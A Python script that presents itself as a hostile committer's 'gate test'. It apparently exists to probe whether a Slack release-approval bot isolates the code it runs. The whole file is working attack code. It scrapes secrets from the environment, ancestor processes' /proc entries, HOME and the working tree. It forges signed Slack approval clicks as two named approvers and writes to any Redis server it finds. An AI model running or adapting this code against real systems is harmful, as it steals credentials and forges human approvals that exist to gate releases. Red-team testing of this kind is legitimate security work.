"""A gate "test" written by a hostile committer, committed into the released repository.

It harvests every secret it can reach (its environment, the environment and command line of
every ancestor process, files named on those command lines, its HOME and working tree), then
uses what it found: it signs Approve clicks as two real approvers with any signing secret and
posts them to the bot, and writes into any Redis it found a URL for. It reports everything to
REPORT_DIR/report.json. Standard library only: it runs as whatever user the bot gives it.

    python3 hostile_gate.py BOT_URL REPORT_DIR
"""

from __future__ import annotations

import hashlib
import hmac
import json
import os
import re
import socket
import sys
import time
import urllib.parse
import urllib.request
from pathlib import Path

BOT_URL, REPORT = sys.argv[1], Path(sys.argv[2])
APPROVERS = ("U0BOB", "U0CAROL")


def read(path: str | Path, limit: int = 200_000) -> str:
    try:
        with open(path, "rb") as handle:
            return handle.read(limit).decode("utf-8", "replace")
    except OSError as exc:
        return f"<{type(exc).__name__}>"


def ancestors() -> list[int]:
    found, pid = [], os.getpid()
    while pid > 1:
        stat = read(f"/proc/{pid}/stat")
        try:
            pid = int(stat.rsplit(")", 1)[1].split()[1])
        except (IndexError, ValueError):
            break
        found.append(pid)
    return found


harvest: dict[str, str] = {"env": "\n".join(f"{k}={v}" for k, v in os.environ.items())}
paths: set[str] = set()
for pid in ancestors():
    harvest[f"/proc/{pid}/environ"] = read(f"/proc/{pid}/environ").replace("\0", "\n")
    cmdline = read(f"/proc/{pid}/cmdline").split("\0")
    harvest[f"/proc/{pid}/cmdline"] = " ".join(cmdline)
    paths.update(arg for arg in cmdline if arg.startswith("/"))
    try:
        paths.add(os.readlink(f"/proc/{pid}/cwd"))
    except OSError as exc:
        harvest[f"/proc/{pid}/cwd"] = f"<{type(exc).__name__}>"
for root in [os.environ.get("HOME", ""), os.getcwd(), *sorted(paths)]:
    if not root:
        continue
    if os.path.isfile(root):
        harvest[root] = read(root)
        root = os.path.dirname(root)  # the folder of a config file may hold more
    for folder, _, files in os.walk(root):
        for name in files[:200]:
            path = os.path.join(folder, name)
            harvest[path] = read(path, 50_000)
        if len(harvest) > 2000:
            break

text = "\n".join(harvest.values())
secrets = set(re.findall(r"SLACK_SIGNING_SECRET=([^\s\"']+)", text))
redis_urls = set(re.findall(r"redis://[^\s\"']+", text))


def click(secret: str, user: str, target: dict[str, str]) -> int:
    payload = {
        "type": "block_actions",
        "api_app_id": "A0TEST",
        "token": "legacy",
        "team": {"id": "T0TEST"},
        "user": {"id": user, "username": user.lower()},
        "container": {
            "type": "message",
            "message_ts": target["ts"],
            "channel_id": target["channel"],
        },
        "channel": {"id": target["channel"]},
        "message": {"ts": target["ts"]},
        "trigger_id": f"{time.time_ns()}",
        "response_url": target["response_url"],
        "actions": [
            {
                "action_id": "gate_approve",
                "block_id": "gate:qa",
                "value": json.dumps({"v": target["version"], "g": "qa"}),
                "type": "button",
            }
        ],
    }
    body = urllib.parse.urlencode({"payload": json.dumps(payload)}).encode()
    ts = str(int(time.time()))
    signature = (
        "v0="
        + hmac.new(secret.encode(), b"v0:" + ts.encode() + b":" + body, hashlib.sha256).hexdigest()
    )
    request = urllib.request.Request(
        f"{BOT_URL}/slack/events",
        data=body,
        headers={
            "X-Slack-Request-Timestamp": ts,
            "X-Slack-Signature": signature,
            "Content-Type": "application/x-www-form-urlencoded",
        },
    )
    try:
        return urllib.request.urlopen(request, timeout=5).status
    except OSError as exc:
        return getattr(exc, "code", -1)


def write_redis(url: str) -> str:
    try:
        parts = urllib.parse.urlparse(url)
        with socket.create_connection((parts.hostname, parts.port or 6379), timeout=3) as conn:
            commands = []
            if parts.password:
                commands.append(["AUTH", urllib.parse.unquote(parts.password)])
            commands.append(["SET", "pwned-by-the-gate", "1"])
            for command in commands:
                wire = f"*{len(command)}\r\n" + "".join(f"${len(c)}\r\n{c}\r\n" for c in command)
                conn.sendall(wire.encode())
            return conn.recv(1000).decode(errors="replace")
    except (OSError, ValueError) as exc:
        return f"<{type(exc).__name__}>"


# Where to click: the release message, which the committer can see in Slack.
target_file = REPORT / "target.json"
deadline = time.time() + 15
while not target_file.exists() and time.time() < deadline:
    time.sleep(0.05)
target = json.loads(target_file.read_text()) if target_file.exists() else None
clicks = (
    {secret[:4] + "…": [click(secret, user, target) for user in APPROVERS] for secret in secrets}
    if target
    else {}
)
writes = {url: write_redis(url) for url in redis_urls}
REPORT.joinpath("report.json").write_text(
    json.dumps(
        {
            "uid": os.getuid(),
            "harvest": harvest,
            "secrets": sorted(secrets),
            "redis_urls": sorted(redis_urls),
            "clicks": clicks,
            "writes": writes,
        }
    )
)
print(f"e2e: {len(harvest)} places read, {len(secrets)} secrets, {len(redis_urls)} redis urls")
